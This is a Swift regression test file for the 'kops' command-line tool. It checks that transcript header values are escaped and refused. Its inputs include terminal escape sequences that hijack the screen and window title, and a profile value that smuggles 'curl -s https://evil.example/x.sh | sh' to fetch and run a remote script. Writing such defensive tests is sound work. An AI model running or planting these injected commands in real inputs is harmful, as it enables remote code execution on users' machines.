import Foundation
import KopsTestSupport
import Testing

/// tester58 AD1: a transcript is someone else's file, and `kops check` wrote its header's `profile:` and `api:` values
/// as they were: an edited header cleared the screen and set the window title (`\u{1B}[2J`, OSC 0), and a profile such
/// as `prod; curl … | sh; #` became a ready-to-paste shell line ("check it on its own with 'kops --profile prod; curl …").
/// Now both values are shown escaped, and a profile that is no profile name is refused before anything is replayed.
@Suite struct AD1TranscriptHeaderEscapeTests {
    /// A transcript recorded on a simulator, its header line `old` replaced by `new`, then `kops ARGUMENTS check FILE`
    /// with the simulator named by the environment (so the header's profile is what `check` replays on) or by `--base-url`.
    private func check(replacing old: String, with new: String, arguments: [String] = []) async throws -> ProcessResult {
        try await offPool {
            let simulator = try SimulatorProcess(seed: "demo")
            defer { simulator.stop() }
            let folder = FileManager.default.temporaryDirectory.appendingPathComponent("kops-ad1-\(UUID().uuidString)").path
            try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
            defer { try? FileManager.default.removeItem(atPath: folder) }
            let environment = [
                "HOME": folder, "XDG_CONFIG_HOME": folder + "/config", "XDG_STATE_HOME": folder + "/state",
                "KAPSO_API_KEY": simulator.apiKey, "KAPSO_API_BASE_URL": simulator.baseURL,
            ]
            let path = folder + "/t.md"
            let recorded = try ProcessRunner.run(
                "kops", ["-c", "record \(path); use 100200300400501; numbers; record stop"], environment: environment)
            #expect(recorded.status == 0, "\(recorded.stderr)")
            let text = try String(contentsOfFile: path, encoding: .utf8)
            let line = try #require(text.split(separator: "\n").first { $0.hasPrefix(old) }, "\(text)")
            try Data(text.replacingOccurrences(of: String(line), with: new).utf8).write(to: URL(fileURLWithPath: path))
            return try ProcessRunner.run("kops", arguments + ["check", path], environment: environment)
        }
    }

    @Test func aProfileWithControlBytesIsShownEscapedAndRefused() async throws {
        let result = try await check(replacing: "- profile:", with: "- profile: default\u{1B}[2J\u{1B}[H\u{1B}]0;owned\u{07}")
        #expect(result.status == 64, "\(result.stderr)")
        #expect(!result.stderr.contains("\u{1B}") && !result.stderr.contains("\u{07}"), "\(result.stderr)")
        #expect(result.stderr.contains("names profile 'default\\x1b[2J"), "\(result.stderr)")
        #expect(result.stderr.contains("which is no profile name"), "\(result.stderr)")
        #expect(result.stderr.split(separator: "\n").count == 1, "\(result.stderr)")
    }

    /// Replayed on another profile (`--base-url` typed), the line that refuses `--update` suggested a command built from
    /// the header's value.
    @Test func aProfileThatIsAShellLineIsNeverSuggestedAsOne() async throws {
        let result = try await check(
            replacing: "- profile:", with: "- profile: prod; curl -s https://evil.example/x.sh | sh; #",
            arguments: ["--base-url", "http://127.0.0.1:1"])
        #expect(!result.stderr.contains("kops --profile prod;"), "\(result.stderr)")
        #expect(!result.stderr.contains("profile add prod;"), "\(result.stderr)")
        let refused = try await check(replacing: "- profile:", with: "- profile: prod; curl -s https://evil.example/x.sh | sh; #")
        #expect(refused.status == 64, "\(refused.stderr)")
        #expect(!refused.stderr.contains("profile add prod;"), "\(refused.stderr)")
        #expect(refused.stderr.contains("which is no profile name"), "\(refused.stderr)")
    }

    @Test func anAPIHostWithControlBytesIsShownEscaped() async throws {
        let result = try await check(replacing: "- api:", with: "- api: 127.0.0.1:9\u{1B}]0;owned\u{07}\u{1B}[31m")
        #expect(!result.stderr.contains("\u{1B}") && !result.stderr.contains("\u{07}"), "\(result.stderr)")
        #expect(result.stderr.contains("recorded against 127.0.0.1:9\\x1b]0;owned"), "\(result.stderr)")
    }
}
